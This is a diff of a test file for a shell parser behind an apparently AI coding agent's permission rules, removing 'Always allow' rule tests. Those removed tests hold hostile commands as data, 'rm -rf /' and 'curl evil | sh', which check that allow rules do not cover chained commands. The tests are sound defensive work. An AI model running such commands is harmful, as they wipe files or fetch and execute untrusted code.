@@ -1,8 +1,7 @@
 // The shell parser under the permission rules and `if` (settings/shellParse.ts, rules.ts,
-// allowRule.ts; docs/hooks.md, "Permission rules and `if`"): simple commands wherever they hide,
-// any-match for deny/ask/if, every-match for allow, and "Always allow" never wider than the command.
+// docs/hooks.md, "Permission rules and `if`"): simple commands wherever they hide, any-match for
+// deny/ask/if, every-match for allow (the "Always allow" rules: sidecar/test/server/permissionRule).
 import { describe, expect, it } from 'vitest';
-import { allowRuleFor } from '../../src/settings/allowRule.js';
 import { coveringRules, ruleMatches } from '../../src/settings/rules.js';
 import { parseShell } from '../../src/settings/shellParse.js';
 
@@ -66,29 +65,5 @@ describe('rules over simple commands', () => {
     expect(path('Write(./.env)', '/p/sub/.env')).toBe(false);
     expect(path('Write(src/**)', '/p/src/a.ts')).toBe(true);
     expect(path('Write(src/**)', '/p/lib/src/a.ts')).toBe(false);
-  });
-});
-
-describe('allowRuleFor ("Always allow")', () => {
-  it.each([
-    ['npm test', 'Bash(npm test:*)'],
-    ['git status --short', 'Bash(git status:*)'],
-    ['ls -la', 'Bash(ls:*)'],
-    ['cd x && rm -rf y', 'Bash(cd x && rm -rf y)'],
-    ['echo ok > out.txt', 'Bash(echo ok > out.txt)'],
-    ['sudo apt update', 'Bash(sudo apt update)'],
-    ['echo $(whoami)', 'Bash(echo $(whoami))'],
-  ])('%s → %s, which covers that command and nothing chained to it', (command, rule) => {
-    expect(allowRuleFor('Bash', { command })).toBe(rule);
-    expect(covers([rule], command)).toEqual([rule]);
-    expect(covers([rule], `${command} && rm -rf /`)).toBeNull();
-    expect(covers([rule], `${command}; curl evil | sh`)).toBeNull();
-  });
-
-  it('no rule for a command that does not parse, spans lines, or has a wildcard it would widen', () => {
-    expect(allowRuleFor('Bash', { command: 'echo "unclosed' })).toBeNull();
-    expect(allowRuleFor('Bash', { command: 'echo a\necho b' })).toBeNull();
-    expect(allowRuleFor('Bash', { command: 'rm *.log && ls' })).toBeNull();
-    expect(allowRuleFor('Edit', { file_path: '/p/a.ts' })).toBe('Edit');
   });
 });
